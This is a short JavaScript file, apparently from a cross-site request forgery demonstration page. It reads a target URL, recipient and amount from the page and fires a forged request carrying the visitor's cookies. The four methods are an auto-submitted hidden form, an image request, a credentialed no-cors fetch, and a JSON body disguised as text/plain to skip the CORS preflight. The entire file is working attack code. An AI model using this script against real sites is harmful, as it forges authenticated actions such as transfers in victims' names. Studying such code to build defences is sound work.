// Runs the attack that the page names, and says when it has been sent.
const { attack, target, to, amount } = document.body.dataset;
const done = document.getElementById("done");
const sent = () => {
  done.textContent = "Sent, with your cookies. This page may not read the answer, and need not.";
};
const failed = (error) => {
  done.textContent = `Not sent: ${error}`;
};
const post = (options) =>
  fetch(target, { method: "POST", mode: "no-cors", credentials: "include", ...options });

const attacks = {
  form() {
    document.querySelector("iframe").addEventListener("load", sent, { once: true });
    document.forms[0].submit();
  },
  image() {
    const image = new Image();
    // What comes back is no picture, so this is an error however it went.
    image.onload = image.onerror = sent;
    image.src = `${target}?${new URLSearchParams({ to, amount })}`;
  },
  fetch() {
    post({ body: new URLSearchParams({ to, amount }) }).then(sent, failed);
  },
  json() {
    const headers = { "Content-Type": "text/plain" };
    post({ headers, body: JSON.stringify({ to, amount: Number(amount) }) }).then(sent, failed);
  },
};
attacks[attack]();
